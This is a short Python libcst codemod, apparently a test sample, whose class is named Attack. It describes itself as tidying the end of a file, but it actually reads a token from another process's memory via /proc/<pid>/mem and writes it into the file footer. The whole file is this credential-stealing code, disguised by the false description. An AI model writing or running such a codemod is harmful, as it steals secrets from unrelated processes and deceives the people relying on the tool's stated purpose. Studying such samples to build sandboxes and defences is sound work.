"""Read the memory of a process that has nothing to do with this one."""
import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        with open(f"/proc/{target['victim_pid']}/mem", "rb", buffering=0) as memory:
            memory.seek(target["victim_address"])
            loot = memory.read(target["token_length"]).decode()
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
